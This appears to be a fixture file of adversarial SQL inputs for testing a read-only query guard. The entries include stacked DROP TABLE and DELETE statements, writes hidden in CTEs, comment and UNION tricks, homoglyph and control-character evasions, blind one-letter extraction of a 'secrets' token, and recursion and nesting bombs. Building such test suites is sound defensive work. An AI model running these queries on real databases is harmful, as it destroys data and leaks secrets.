--- two_selects: one-statement: two selects
SELECT 1; SELECT 2

--- select_then_drop: one-statement: a table dropped behind a query
SELECT COUNT(*) FROM Album; DROP TABLE InvoiceLine

--- commit_then_drop: one-statement: a read-only transaction ended first
SELECT 1; COMMIT; DROP TABLE InvoiceLine

--- rollback_then_write: one-statement: rollback, then a write
SELECT 1; ROLLBACK; UPDATE Invoice SET Total = 0

--- empty_first: one-statement: empty statement first
; SELECT token FROM secrets

--- empty_between: one-statement: empty statements between
SELECT 1;;; DELETE FROM InvoiceLine

--- semicolon_in_text: one-statement: a semicolon in a text, then a real one
SELECT 'a;b' AS x; DELETE FROM Invoice WHERE BillingCity = 'c;d'

--- quote_trick: one-statement: a doubled quote before the second statement
SELECT '''' AS x; DELETE FROM PlaylistTrack

--- second_is_secret: one-statement: second statement reads a table that is not allowed
SELECT Title FROM Album; SELECT token FROM secrets

--- begin_block: one-statement: transaction around a write
BEGIN; DELETE FROM InvoiceLine; COMMIT

--- trailing_newlines: one-statement: second statement far below
SELECT 1



;



DROP TABLE PlaylistTrack

--- insert: only-queries: insert
INSERT INTO Genre (GenreId, Name) VALUES (99, 'x')

--- insert_select: only-queries: insert from a query
INSERT INTO Genre (GenreId, Name) SELECT 100 + GenreId, Name FROM Genre

--- update: only-queries: update
UPDATE Invoice SET Total = 0 WHERE InvoiceId = 1

--- delete: only-queries: delete
DELETE FROM InvoiceLine WHERE InvoiceLineId = 1

--- drop_table: only-queries: drop
DROP TABLE IF EXISTS PlaylistTrack

--- create_table: only-queries: create
CREATE TABLE loot (x INT)

--- create_table_as: only-queries: table made of a query
CREATE TABLE loot AS SELECT * FROM Customer

--- create_temporary: only-queries: temporary table made of a query
CREATE TEMPORARY TABLE loot AS SELECT * FROM secrets

--- create_view: only-queries: view
CREATE VIEW loot AS SELECT token FROM secrets

--- create_index: only-queries: index
CREATE INDEX slow ON Track (Name)

--- alter_table: only-queries: alter
ALTER TABLE Album ADD COLUMN x INT

--- rename_table: only-queries: rename
ALTER TABLE Album RENAME TO loot

--- truncate: only-queries: truncate
TRUNCATE TABLE InvoiceLine

--- grant: only-queries: grant
GRANT SELECT ON secrets TO somebody

--- begin: only-queries: begin
BEGIN

--- commit: only-queries: commit
COMMIT

--- rollback: only-queries: rollback
ROLLBACK

--- explain: only-queries: plan of a query on a table that is not allowed
EXPLAIN SELECT token FROM secrets

--- explain_delete: only-queries: plan of a delete
EXPLAIN DELETE FROM Album

--- cte_delete: no-writes: delete behind an expression
WITH doomed AS (SELECT InvoiceLineId FROM InvoiceLine) DELETE FROM InvoiceLine WHERE InvoiceLineId IN (SELECT InvoiceLineId FROM doomed)

--- cte_update: no-writes: update behind an expression
WITH x AS (SELECT 1 AS one) UPDATE Invoice SET Total = 0 WHERE InvoiceId IN (SELECT one FROM x)

--- cte_insert_inside: no-writes: insert as an expression
WITH x AS (INSERT INTO Genre (GenreId, Name) VALUES (98, 'x') RETURNING GenreId) SELECT * FROM x

--- cte_delete_inside: no-writes: delete as an expression
WITH x AS (DELETE FROM InvoiceLine RETURNING InvoiceLineId) SELECT COUNT(*) FROM x

--- cte_update_inside: no-writes: update as an expression
WITH x AS (UPDATE Invoice SET Total = 0 RETURNING InvoiceId) SELECT COUNT(*) FROM x

--- cte_delete_unused: no-writes: delete in an expression nobody reads
WITH x AS (DELETE FROM InvoiceLine RETURNING 1) SELECT 1

--- delete_in_from: no-writes: delete as a derived table
SELECT * FROM (DELETE FROM InvoiceLine RETURNING InvoiceLineId) x

--- select_into: no-into: select into a table
SELECT AlbumId, Title INTO loot FROM Album

--- select_into_union: no-into: into in the first arm of a union
SELECT AlbumId INTO loot FROM Album UNION SELECT ArtistId FROM Artist

--- select_into_cte: no-into: into inside an expression
WITH x AS (SELECT AlbumId INTO loot FROM Album) SELECT * FROM x

--- comment_dashes: no-comments: comment to the end of the line
SELECT 1 -- and no more

--- comment_dashes_hide: no-comments: the rest of a condition hidden
SELECT FirstName FROM Customer WHERE Country = 'USA' -- AND SupportRepId = 3

--- comment_block: no-comments: block comment
SELECT /* a hint? */ Title FROM Album

--- comment_block_split: no-comments: keyword split by comments
SELECT token/**/FROM/**/secrets

--- comment_unterminated: no-comments: comment without an end
SELECT Title FROM Album /* and so on

--- comment_nested: no-comments: nested comment that engines end at different places
SELECT 1 /* outer /* inner */ , (SELECT MAX(token) FROM secrets) /* */

--- comment_union: no-comments: union hidden before a comment
SELECT Name FROM Artist WHERE Name = 'x' UNION SELECT token FROM secrets --' AND ArtistId = 1

--- comment_only_name: no-comments: comment between a schema's dot and the name
SELECT * FROM Album WHERE AlbumId = 1 /**/

--- comment_newline: no-comments: comment ended by a new line
SELECT Title -- x
FROM Album

--- nul !escaped: characters: NUL in the text
SELECT Title FROM Album\0 UNION SELECT token FROM secrets

--- nul_in_text !escaped: characters: NUL inside a literal
SELECT 'a\0b' AS x

--- nul_in_name !escaped: characters: NUL inside a name
SELECT * FROM secrets\0x

--- bidi_override !escaped: characters: text that runs from right to left
SELECT Title FROM Album WHERE Title = '\u202e' OR 1 = 1

--- bidi_isolate !escaped: characters: isolate marks
SELECT Title AS `\u2066x\u2069` FROM Album

--- bidi_mark !escaped: characters: right-to-left mark in a literal
SELECT COUNT(*) FROM Album WHERE Title = 'a\u200fb'

--- bidi_embedding !escaped: characters: embedding in a literal
SELECT COUNT(*) FROM Album WHERE Title = '\u202aabc\u202c'

--- control_backspace !escaped: characters: backspace
SELECT Title\u0008 FROM Album

--- control_escape !escaped: characters: escape sequence of a terminal
SELECT '\u001b[2J' AS x

--- control_bell !escaped: characters: bell
SELECT 1 AS x\u0007

--- control_delete !escaped: characters: delete character
SELECT 'a\u007fb' AS x

--- control_c1 !escaped: characters: second control set
SELECT 'a\u009bb' AS x

--- control_vertical_tab !escaped: characters: vertical tab as white space
SELECT\u000bTitle\u000bFROM\u000bAlbum

--- employee: relation: table that is not allowed
SELECT * FROM Employee

--- secrets: relation: other table that is not allowed
SELECT token FROM secrets

--- employee_columns: relation: some columns of it
SELECT FirstName, LastName, BirthDate FROM Employee ORDER BY HireDate

--- employee_count: relation: only its number of rows
SELECT COUNT(*) FROM Employee

--- employee_join: relation: joined along a key
SELECT c.LastName, e.LastName FROM Customer c JOIN Employee e ON e.EmployeeId = c.SupportRepId

--- employee_left_join: relation: outer join
SELECT c.LastName, e.BirthDate FROM Customer c LEFT JOIN Employee e ON e.EmployeeId = c.SupportRepId

--- employee_self_join: relation: reporting lines
SELECT e.LastName, m.LastName FROM Employee e JOIN Employee m ON m.EmployeeId = e.ReportsTo

--- employee_comma: relation: behind a comma
SELECT a.Title, s.token FROM Album a, secrets s

--- employee_cross: relation: cross join
SELECT COUNT(*) FROM Genre CROSS JOIN secrets

--- natural_secrets: relation: natural join
SELECT * FROM Genre NATURAL JOIN secrets

--- using_employee: relation: join with using
SELECT * FROM Customer JOIN Employee USING (LastName)

--- nested_join: relation: inside a bracketed join
SELECT a.Title FROM Album a JOIN (Artist r JOIN secrets s ON s.id = r.ArtistId) ON r.ArtistId = a.ArtistId

--- in_select_list: relation: scalar subquery in the select list
SELECT Title, (SELECT MAX(token) FROM secrets) FROM Album

--- in_where_in: relation: subquery behind in
SELECT FirstName FROM Customer WHERE SupportRepId IN (SELECT EmployeeId FROM Employee WHERE Title = 'Sales Support Agent')

--- in_where_exists: relation: subquery behind exists
SELECT 1 FROM Album WHERE EXISTS (SELECT 1 FROM secrets WHERE token LIKE 'a%')

--- in_where_scalar: relation: scalar subquery in where
SELECT AlbumId FROM Album WHERE AlbumId < (SELECT COUNT(*) FROM Employee)

--- in_where_between: relation: bound of between
SELECT AlbumId FROM Album WHERE AlbumId BETWEEN 1 AND (SELECT COUNT(*) FROM secrets)

--- in_where_like: relation: pattern of like
SELECT Name FROM Artist WHERE Name LIKE (SELECT MAX(token) FROM secrets)

--- in_having: relation: having
SELECT ArtistId FROM Album GROUP BY ArtistId HAVING COUNT(*) > (SELECT COUNT(*) FROM secrets)

--- in_group_by: relation: group by
SELECT COUNT(*) FROM Album GROUP BY AlbumId > (SELECT COUNT(*) FROM secrets)

--- in_order_by: relation: order by
SELECT Title FROM Album ORDER BY (SELECT MAX(token) FROM secrets), Title

--- in_join_on: relation: join condition
SELECT a.Title FROM Album a JOIN Artist r ON r.ArtistId = a.ArtistId AND r.ArtistId < (SELECT COUNT(*) FROM secrets)

--- in_case_when: relation: condition of a case
SELECT CASE WHEN (SELECT COUNT(*) FROM secrets) > 0 THEN 'there' ELSE 'not' END AS x

--- in_case_then: relation: result of a case
SELECT CASE WHEN AlbumId = 1 THEN (SELECT MAX(token) FROM secrets) END FROM Album

--- in_case_operand: relation: operand of a case
SELECT CASE (SELECT COUNT(*) FROM secrets) WHEN 1 THEN 'one' ELSE 'more' END AS x

--- in_function_argument: relation: argument of a function
SELECT COALESCE((SELECT MAX(token) FROM secrets), 'none') AS x

--- in_aggregate_argument: relation: argument of an aggregate
SELECT SUM(t.AlbumId + (SELECT COUNT(*) FROM secrets)) AS x FROM Track t

--- in_cast: relation: operand of a cast
SELECT CAST((SELECT MAX(token) FROM secrets) AS CHAR(50)) AS x

--- in_window_partition: relation: partition of a window
SELECT SUM(Total) OVER (PARTITION BY (SELECT MAX(token) FROM secrets)) AS x FROM Invoice

--- in_window_order: relation: order of a window
SELECT RANK() OVER (ORDER BY (SELECT MAX(token) FROM secrets)) AS x FROM Invoice

--- in_named_window: relation: named window
SELECT SUM(Total) OVER w AS x FROM Invoice WINDOW w AS (PARTITION BY (SELECT MAX(token) FROM secrets))

--- in_list_item: relation: item of a list
SELECT Title FROM Album WHERE Title IN ('a', (SELECT MAX(token) FROM secrets), 'b')

--- in_arithmetic: relation: operand of arithmetic
SELECT 1 + (SELECT COUNT(*) FROM secrets) AS x

--- in_unary: relation: operand of a sign
SELECT -(SELECT COUNT(*) FROM secrets) AS x

--- in_not: relation: operand of not
SELECT AlbumId FROM Album WHERE NOT (SELECT COUNT(*) > 100 FROM secrets)

--- in_is_null: relation: operand of is null
SELECT AlbumId FROM Album WHERE (SELECT MAX(token) FROM secrets) IS NULL

--- in_derived: relation: derived table
SELECT x.token FROM (SELECT token FROM secrets) x

--- in_derived_deep: relation: derived table three levels deep
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT token FROM secrets) a) b) c

--- in_union_second: relation: second arm of a union
SELECT Title FROM Album UNION ALL SELECT token FROM secrets

--- in_union_third: relation: third arm of a union
SELECT Title FROM Album UNION SELECT Name FROM Artist UNION SELECT token FROM secrets

--- in_intersect: relation: arm of an intersect
SELECT Title FROM Album INTERSECT SELECT token FROM secrets

--- in_except: relation: arm of an except
SELECT token FROM secrets EXCEPT SELECT Title FROM Album

--- in_cte: relation: inside an expression
WITH x AS (SELECT token FROM secrets) SELECT token FROM x

--- in_cte_second: relation: inside the second expression
WITH a AS (SELECT 1 AS one), b AS (SELECT token FROM secrets) SELECT * FROM a, b

--- in_cte_unused: relation: inside an expression nobody reads
WITH x AS (SELECT token FROM secrets) SELECT 1 AS one

--- in_cte_nested: relation: inside an expression of an expression
WITH x AS (WITH y AS (SELECT token FROM secrets) SELECT token FROM y) SELECT token FROM x

--- in_recursive_anchor: relation: first part of a recursion
WITH RECURSIVE r AS (SELECT EmployeeId, ReportsTo FROM Employee WHERE ReportsTo IS NULL UNION ALL SELECT e.EmployeeId, e.ReportsTo FROM Employee e JOIN r ON r.EmployeeId = e.ReportsTo) SELECT * FROM r

--- in_recursive_step: relation: second part of a recursion
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r JOIN secrets s ON s.id = r.i WHERE r.i < 5) SELECT i FROM r

--- correlated_secret: relation: correlated subquery
SELECT c.LastName, (SELECT e.Title FROM Employee e WHERE e.EmployeeId = c.SupportRepId) FROM Customer c

--- blind_guess: relation: one letter guessed at a time
SELECT CASE WHEN (SELECT SUBSTR(token, 1, 1) FROM secrets WHERE id = 1) = 'a' THEN 1 ELSE 0 END AS x

--- alias_hides_name: relation: alias of an allowed name for a table that is not
SELECT Album.token FROM secrets AS Album

--- alias_hides_other: relation: alias that is the name of the forbidden table, next to it
SELECT secrets.Title, x.token FROM Album AS secrets CROSS JOIN secrets AS x

--- unknown_table: relation: table that is in no schema
SELECT * FROM loot

--- homoglyph_table: relation: name with a Cyrillic letter
SELECT * FROM Аlbum

--- fullwidth_table: relation: name in fullwidth letters
SELECT * FROM ｓｅｃｒｅｔｓ

--- cte_shadow_self: scope: an expression that reads the table it is named after
WITH secrets AS (SELECT token FROM secrets) SELECT token FROM secrets

--- cte_shadow_employee: scope: the same with the other table
WITH Employee AS (SELECT * FROM Employee) SELECT * FROM Employee

--- cte_used_before: scope: a name used before it is defined
WITH a AS (SELECT token FROM secrets), secrets AS (SELECT 'x' AS token) SELECT token FROM a

--- cte_used_after: scope: a name used after its scope has ended
SELECT b.token FROM (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets) a CROSS JOIN secrets b

--- cte_scalar_scope: scope: a name defined in one subquery, used in the next
SELECT (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) AS a, (SELECT MAX(token) FROM secrets) AS b

--- cte_where_scope: scope: a name defined in a condition, used in from
SELECT token FROM secrets WHERE EXISTS (WITH secrets AS (SELECT 1 AS one) SELECT one FROM secrets)

--- cte_inner_to_outer: scope: a name defined inside an expression, used outside
WITH x AS (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) SELECT x.token, secrets.token FROM x CROSS JOIN secrets

--- cte_union_scope: scope: a name defined in a bracketed arm, used in the other
SELECT * FROM (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) a UNION ALL SELECT token FROM secrets

--- column_of_other: column: column of a table that is not in from
SELECT Employee.LastName FROM Customer

--- column_unknown: column: column that no table has
SELECT token FROM Customer

--- column_unknown_qualified: column: qualified column that the table has not
SELECT c.BirthDate FROM Customer c

--- column_unknown_where: column: unknown column in where
SELECT c.LastName FROM Customer c WHERE c.HireDate > '2000-01-01'

--- column_unknown_order: column: unknown column in order by
SELECT c.LastName FROM Customer c ORDER BY c.BirthDate

--- column_unknown_join: column: unknown column in a join condition
SELECT c.LastName FROM Customer c JOIN Invoice i ON i.EmployeeId = c.CustomerId

--- column_of_inner_scope: column: column of a scope that has ended
SELECT x.LastName FROM (SELECT c.CustomerId FROM Customer c) x

--- column_star_unknown: column: star of an alias that is not there
SELECT e.* FROM Customer c

--- recursion_endless: recursion: no end
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT COUNT(*) FROM r

--- recursion_true: recursion: condition that is always true
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE 1 = 1) SELECT COUNT(*) FROM r

--- recursion_positive: recursion: condition that stays true
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i > 0) SELECT COUNT(*) FROM r

--- recursion_self_compare: recursion: compared with itself
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < i + 1) SELECT COUNT(*) FROM r

--- recursion_no_step: recursion: a counter that does not count
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i FROM r WHERE i < 10) SELECT COUNT(*) FROM r

--- recursion_backwards: recursion: a counter that counts the wrong way
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i - 1 FROM r WHERE i < 10) SELECT COUNT(*) FROM r

--- recursion_huge: recursion: a bound of a million million
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < 1000000000000) SELECT COUNT(*) FROM r

--- recursion_or: recursion: a bound that an or takes away
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < 10 OR i > 0) SELECT COUNT(*) FROM r

--- recursion_doubling_rows: recursion: every step doubles the rows
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r CROSS JOIN (SELECT 1 AS k UNION ALL SELECT 2) two WHERE r.i < 60) SELECT COUNT(*) FROM r

--- recursion_join_table: recursion: every step multiplies by a table
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r CROSS JOIN Track WHERE r.i < 50) SELECT COUNT(*) FROM r

--- recursion_other_column: recursion: the bound is on a column that stands still
WITH RECURSIVE r AS (SELECT 1 AS i, 1 AS k UNION ALL SELECT i + 1, k FROM r WHERE k < 10) SELECT COUNT(*) FROM r

--- recursion_second_unbounded: recursion: the second of two has no end
WITH RECURSIVE a AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM a WHERE i < 5), b AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM b) SELECT COUNT(*) FROM b

--- recursion_nested_unbounded: recursion: no end, in a derived table
SELECT COUNT(*) FROM (WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT i FROM r) x

--- replace_growth: bounded-arguments: replacements that multiply
SELECT CHAR_LENGTH(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE('xxxxxxxxxx', 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')) AS x

--- unknown_function: function: function on no list
SELECT no_such_function(Title) FROM Album

--- unknown_function_where: function: function on no list, in where
SELECT Title FROM Album WHERE no_such_function(AlbumId) = 1

--- schema_function: function: function with a schema of somebody
SELECT evil.upper(Title) FROM Album

--- three_part_name: schema: name of three parts
SELECT * FROM elsewhere.somewhere.Album

--- other_schema: schema: allowed name in another schema
SELECT * FROM elsewhere.Album

--- other_schema_quoted: schema: dot within quotes
SELECT * FROM `elsewhere.Album`

--- joins_many !repeat: joins: ninety joins
SELECT COUNT(*) FROM Genre g ||| CROSS JOIN Genre g{n} ||| 90 |||

--- joins_commas !repeat: joins: ninety tables behind commas
SELECT COUNT(*) FROM Genre g |||, Genre g{n}||| 90 |||

--- joins_bare !repeat: joins: four hundred joins without a condition, which overflow a parser's stack
SELECT * FROM Genre g ||| JOIN Genre g{n} ||| 400 ||| ON 1 = 1

--- joins_in_subqueries !repeat: joins: joins spread over subqueries
SELECT 1 FROM Genre WHERE 1 = 1 ||| AND EXISTS (SELECT 1 FROM Track a JOIN Track b ON a.TrackId < b.TrackId) ||| 66 |||

--- unions_many !repeat: set-operators: ninety unions
SELECT 1 ||| UNION ALL SELECT {n} ||| 90 |||

--- unions_tables !repeat: set-operators: seventy unions of a table
SELECT COUNT(*) FROM Track ||| UNION SELECT COUNT(*) + {n} FROM Track ||| 70 |||

--- intersects_many !repeat: set-operators: seventy intersects
SELECT 1 ||| INTERSECT SELECT 1 ||| 70 |||

--- brackets_deep !repeat: depth: a hundred brackets
SELECT |||(||| 100 |||1|||)||| 100 ||| AS x

--- brackets_very_deep !repeat: depth: two thousand brackets
SELECT |||(||| 2000 |||1|||)||| 2000 ||| AS x

--- brackets_open !repeat: depth: brackets that are never closed
SELECT |||(||| 3000 |||1

--- subqueries_deep !repeat: depth: eighty derived tables
||| SELECT * FROM ( ||| 80 ||| SELECT 1 AS one |||) d{n}||| 80 |||

--- functions_deep !repeat: depth: a hundred nested functions
SELECT |||ABS(||| 100 |||1|||)||| 100 ||| AS x

--- scalar_subqueries_deep !repeat: depth: seventy scalar subqueries
SELECT |||(SELECT ||| 70 |||1|||)||| 70 ||| AS x

--- in_list_giant !repeat: size: list of six thousand numbers
SELECT Title FROM Album WHERE AlbumId IN (0 |||, {n}||| 6000 |||)

--- literal_giant !repeat: size: literal of twenty thousand letters
SELECT COUNT(*) FROM Album WHERE Title = '|||x||| 20000 |||'

--- spaces_giant !repeat: size: twenty thousand blanks
SELECT 1 ||| ||| 20000 ||| AS x

--- tokens_many !repeat: tokens: five thousand tokens in few bytes
SELECT 1|||+1||| 2600 ||| AS x

--- or_giant !repeat: size: two thousand conditions
SELECT Title FROM Album WHERE AlbumId = 0 ||| OR AlbumId = {n} ||| 2000 |||

--- select_list_giant !repeat: size: a thousand scalar subqueries
SELECT 1 |||, (SELECT COUNT(*) FROM Track) ||| 1000 |||

--- pos_lateral_view: relation: lateral view
SELECT * FROM Album LATERAL VIEW explode((SELECT token FROM secrets)) t AS x

--- pos_from_first: relation: from before select
FROM secrets SELECT token

--- pos_from_only: relation: from without select
FROM secrets

--- pos_pivot: relation: values of a pivot
SELECT * FROM Album PIVOT (MAX(Title) FOR AlbumId IN (SELECT id FROM secrets)) p

--- pos_unpivot: relation: unpivot
SELECT * FROM secrets UNPIVOT (v FOR c IN (token)) u

--- pos_openjson: table-function: openjson over a subquery
SELECT * FROM OPENJSON((SELECT token FROM secrets)) j

--- pos_json_table: table-function: json_table over a subquery
SELECT * FROM JSON_TABLE((SELECT token FROM secrets LIMIT 1), '$[*]' COLUMNS (x INT PATH '$')) j

--- pos_xmltable: table-function: xmltable over a subquery
SELECT * FROM XMLTABLE('/a' PASSING (SELECT token FROM secrets) COLUMNS x INT PATH 'b') j

--- pos_unnest: table-function: unnest over a subquery
SELECT * FROM UNNEST((SELECT token FROM secrets)) u

--- pos_unnest_array: table-function: unnest over an array with a subquery
SELECT * FROM UNNEST(ARRAY[(SELECT token FROM secrets LIMIT 1)]) u

--- pos_table_function: table-function: table of a function over a subquery
SELECT * FROM TABLE(f((SELECT token FROM secrets))) t

--- pos_plain_function: table-function: function in from over a subquery
SELECT * FROM f((SELECT token FROM secrets)) t

--- pos_table_sample: relation: size of a sample
SELECT * FROM Album TABLESAMPLE BERNOULLI ((SELECT COUNT(*) FROM secrets))

--- pos_match_recognize: relation: measures of match_recognize
SELECT * FROM Album MATCH_RECOGNIZE (ORDER BY AlbumId MEASURES (SELECT MAX(token) FROM secrets) AS t PATTERN (a+) DEFINE a AS TRUE) m

--- pos_version: relation: time of a table's version
SELECT * FROM Album FOR SYSTEM_TIME AS OF (SELECT MAX(token) FROM secrets)

--- pos_top: relation: number behind top
SELECT TOP (SELECT COUNT(*) FROM secrets) Title FROM Album

--- pos_distinct_on: relation: distinct on
SELECT DISTINCT ON ((SELECT token FROM secrets LIMIT 1)) Title FROM Album

--- pos_star_replace: relation: star with a replacement
SELECT * REPLACE ((SELECT MAX(token) FROM secrets) AS Title) FROM Album

--- pos_prewhere: relation: prewhere
SELECT Title FROM Album PREWHERE EXISTS (SELECT 1 FROM secrets)

--- pos_qualify: relation: qualify
SELECT Title FROM Album QUALIFY (SELECT COUNT(*) FROM secrets) > 0

--- pos_connect_by: relation: connect by
SELECT Title FROM Album START WITH AlbumId = (SELECT COUNT(*) FROM secrets) CONNECT BY PRIOR AlbumId = ArtistId

--- pos_cluster_by: relation: cluster by
SELECT Title FROM Album CLUSTER BY (SELECT MAX(token) FROM secrets)

--- pos_sort_by: relation: sort by
SELECT Title FROM Album SORT BY (SELECT MAX(token) FROM secrets)

--- pos_limit_by: relation: limit by
SELECT Title FROM Album LIMIT 1 BY (SELECT MAX(token) FROM secrets)

--- pos_fetch: relation: fetch
SELECT Title FROM Album ORDER BY Title FETCH FIRST (SELECT COUNT(*) FROM secrets) ROWS ONLY

--- pos_order_fill: relation: with fill
SELECT AlbumId FROM Album ORDER BY AlbumId WITH FILL FROM 1 TO (SELECT COUNT(*) FROM secrets)

--- pos_group_sets: relation: grouping sets
SELECT COUNT(*) FROM Album GROUP BY GROUPING SETS (((SELECT MAX(token) FROM secrets)), ())

--- pos_group_rollup: relation: rollup
SELECT COUNT(*) FROM Album GROUP BY ROLLUP ((SELECT MAX(token) FROM secrets))

--- pos_extract: relation: extract
SELECT EXTRACT(YEAR FROM (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_ceil: relation: ceil to a unit
SELECT CEIL((SELECT COUNT(*) FROM secrets) TO DAY) AS x

--- pos_position: relation: position
SELECT POSITION((SELECT token FROM secrets LIMIT 1) IN 'abc') AS x

--- pos_position_in: relation: second part of position
SELECT POSITION('a' IN (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_substring: relation: substring from for
SELECT SUBSTRING((SELECT token FROM secrets LIMIT 1) FROM 1 FOR 3) AS x

--- pos_substring_from: relation: start of substring
SELECT SUBSTRING('abc' FROM (SELECT COUNT(*) FROM secrets)) AS x

--- pos_trim: relation: trim
SELECT TRIM(BOTH 'x' FROM (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_trim_what: relation: what trim takes away
SELECT TRIM(LEADING (SELECT token FROM secrets LIMIT 1) FROM 'abc') AS x

--- pos_overlay: relation: overlay
SELECT OVERLAY('abc' PLACING (SELECT token FROM secrets LIMIT 1) FROM 1 FOR 1) AS x

--- pos_time_zone: relation: time zone
SELECT i.InvoiceDate AT TIME ZONE (SELECT token FROM secrets LIMIT 1) FROM Invoice i

--- pos_interval: relation: interval
SELECT INTERVAL (SELECT COUNT(*) FROM secrets) DAY AS x

--- pos_like_escape: relation: second like pattern
SELECT Title FROM Album WHERE 'a' NOT LIKE (SELECT token FROM secrets LIMIT 1) ESCAPE '!'

--- pos_similar: relation: similar to
SELECT Title FROM Album WHERE Title SIMILAR TO (SELECT token FROM secrets LIMIT 1)

--- pos_rlike: relation: rlike
SELECT Title FROM Album WHERE Title RLIKE (SELECT token FROM secrets LIMIT 1)

--- pos_distinct_from: relation: is distinct from
SELECT Title FROM Album WHERE Title IS DISTINCT FROM (SELECT token FROM secrets LIMIT 1)

--- pos_is_true: relation: is true
SELECT Title FROM Album WHERE (SELECT COUNT(*) > 0 FROM secrets) IS TRUE

--- pos_in_unnest: relation: in unnest
SELECT Title FROM Album WHERE Title IN UNNEST((SELECT token FROM secrets))

--- pos_any: relation: any with an operator
SELECT Title FROM Album WHERE Title > ANY (SELECT token FROM secrets)

--- pos_all: relation: all with an operator
SELECT Title FROM Album WHERE Title <> ALL (SELECT token FROM secrets)

--- pos_tuple: relation: part of a tuple
SELECT Title FROM Album WHERE (AlbumId, Title) IN ((1, (SELECT token FROM secrets LIMIT 1)))

--- pos_array: relation: element of an array
SELECT ARRAY[1, (SELECT COUNT(*) FROM secrets)] AS x

--- pos_bracket_array: relation: element of a bare array
SELECT [1, (SELECT COUNT(*) FROM secrets)] AS x

--- pos_struct: relation: field of a struct
SELECT STRUCT((SELECT MAX(token) FROM secrets) AS y) AS x

--- pos_dictionary: relation: value of a dictionary
SELECT {'y': (SELECT MAX(token) FROM secrets)} AS x

--- pos_map: relation: value of a map
SELECT MAP {'y': (SELECT MAX(token) FROM secrets)} AS x

--- pos_subscript: relation: subscript
SELECT (ARRAY[1, 2, 3])[(SELECT COUNT(*) FROM secrets)] AS x

--- pos_lambda: relation: body of a lambda
SELECT f(x -> (SELECT MAX(token) FROM secrets)) AS y

--- pos_named_argument: relation: named argument
SELECT f(y => (SELECT MAX(token) FROM secrets)) AS x

--- pos_convert: relation: convert
SELECT CONVERT(CHAR, (SELECT MAX(token) FROM secrets)) AS x

--- pos_try_cast: relation: cast that may fail
SELECT TRY_CAST((SELECT MAX(token) FROM secrets) AS INT) AS x

--- pos_double_colon: relation: colons
SELECT (SELECT MAX(token) FROM secrets)::INT AS x

--- pos_json_path: relation: path into a subquery
SELECT (SELECT MAX(token) FROM secrets):a.b AS x

--- pos_json_arrow: relation: arrow out of a subquery
SELECT (SELECT MAX(token) FROM secrets) -> '$.a' AS x

--- pos_field: relation: field of a subquery
SELECT (SELECT s FROM secrets s LIMIT 1).token AS x

--- pos_collate: relation: collation over a subquery
SELECT (SELECT MAX(token) FROM secrets) COLLATE "C" AS x

--- pos_aggregate_distinct: relation: distinct inside an aggregate
SELECT COUNT(DISTINCT (SELECT MAX(token) FROM secrets)) AS x FROM Album

--- pos_aggregate_order: relation: order inside an aggregate
SELECT f(Title ORDER BY (SELECT MAX(token) FROM secrets)) AS x FROM Album

--- pos_aggregate_limit: relation: limit inside an aggregate
SELECT ARRAY_AGG(Title LIMIT (SELECT COUNT(*) FROM secrets)) AS x FROM Album

--- pos_aggregate_separator: relation: separator of a list
SELECT LISTAGG(Title, (SELECT MAX(token) FROM secrets)) AS x FROM Album

--- pos_within_group: relation: within group
SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY (SELECT COUNT(*) FROM secrets)) AS x FROM Album

--- pos_frame_start: relation: start of a frame
SELECT SUM(Total) OVER (ORDER BY InvoiceId ROWS (SELECT COUNT(*) FROM secrets) PRECEDING) AS x FROM Invoice

--- pos_frame_end: relation: end of a frame
SELECT SUM(Total) OVER (ORDER BY InvoiceId ROWS BETWEEN CURRENT ROW AND (SELECT COUNT(*) FROM secrets) FOLLOWING) AS x FROM Invoice

--- pos_nth_value: relation: number of nth_value
SELECT NTH_VALUE(Total, (SELECT COUNT(*) FROM secrets)) OVER (ORDER BY InvoiceId) AS x FROM Invoice

--- pos_prior: relation: prior
SELECT PRIOR (SELECT MAX(token) FROM secrets) AS x FROM Album

--- pos_join_asof: relation: condition of a join as of
SELECT 1 FROM Album a ASOF JOIN Artist r MATCH_CONDITION (a.AlbumId >= (SELECT COUNT(*) FROM secrets)) ON a.ArtistId = r.ArtistId

--- pos_semi_join: relation: semi join
SELECT a.Title FROM Album a LEFT SEMI JOIN secrets s ON s.id = a.AlbumId

